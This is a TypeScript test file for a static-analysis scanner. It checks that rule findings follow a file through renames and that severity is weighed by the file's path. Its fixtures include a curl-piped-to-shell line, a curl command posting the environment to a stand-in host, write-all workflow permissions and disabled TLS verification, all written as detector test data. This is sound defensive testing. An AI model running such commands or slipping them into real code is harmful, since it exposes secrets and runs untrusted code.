import { describe, expect, it } from 'vitest';
import type { FileChange } from '../../domain/index.ts';
import { changeOf, fileOf, runOn } from '../text/test-change.ts';
import { sast } from './sast.ts';

const added = (path: string, ...lines: readonly string[]): FileChange => ({
  ...fileOf(
    path,
    lines.map((line) => `+${line}`),
  ),
  kind: 'added',
});
const renamed = (oldPath: string, path: string): FileChange => ({
  ...fileOf(path, []),
  hunks: [],
  oldPath,
  kind: 'renamed',
});
const rulesIn = async (...files: readonly FileChange[]): Promise<readonly string[]> =>
  (await runOn(sast, changeOf(...files))).map(({ rule, file, line }) => `${rule} ${file}:${line}`);

describe('a file is judged by every name that a series gives it', () => {
  it.each<[rule: string, from: string, to: string, lines: readonly string[]]>([
    ['py-tls-unverified', 'docs/notes.txt', 'src/net.py', ['requests.get(u, verify=False)']],
    ['download-piped-to-shell', 'docs/notes.md', 'tools/get.sh', ['curl https://h.test | sh']],
    ['workflow-write-all', 'docs/x.txt', '.github/workflows/x.yml', ['permissions: write-all']],
    ['environment-sent', 'docs/x.txt', 'x.sh', ['curl -d "$(env)" h.test']],
  ])('%s: %s, then %s', async (rule, from, to, lines) => {
    expect(await rulesIn(added(from, ...lines))).toEqual([]);
    expect(await rulesIn(added(from, ...lines), renamed(from, to))).toContain(`${rule} ${from}:1`);
    expect(await rulesIn(added(from, ...lines), renamed(from, 'y.txt'), renamed('y.txt', to))).toContain(
      `${rule} ${from}:1`,
    );
  });

  it('does not weigh less for having been a test, and weighs less where it is never anything else', async () => {
    const weigh = async (...files: readonly FileChange[]): Promise<readonly string[]> =>
      (await runOn(sast, changeOf(...files))).filter(({ rule }) => rule === 'js-tls-unverified').map((f) => f.severity);
    const hidden = added('test/a.js', 'get({ rejectUnauthorized: false });');
    expect(await weigh(hidden)).toEqual(['medium']);
    expect(await weigh(hidden, renamed('test/a.js', 'test/b.js'))).toEqual(['medium']);
    expect(await weigh(hidden, renamed('test/a.js', 'src/a.js'))).toEqual(['high']);
  });
});

it('reads what is not prose under all names that one file tells of', () => {
  const reads = (file: FileChange): readonly (boolean | undefined)[] =>
    file.hunks.map((hunk) => sast.reads?.(file, hunk));
  expect(reads(added('a.md', 'x'))).toEqual([false]);
  expect(reads(added('a.java', 'x'))).toEqual([true]);
  expect(reads({ ...added('a.md', 'x'), oldPath: 'a.py' })).toEqual([true]);
  expect(reads({ ...added('a.md', 'x'), oldPath: 'a.txt' })).toEqual([false]);
});
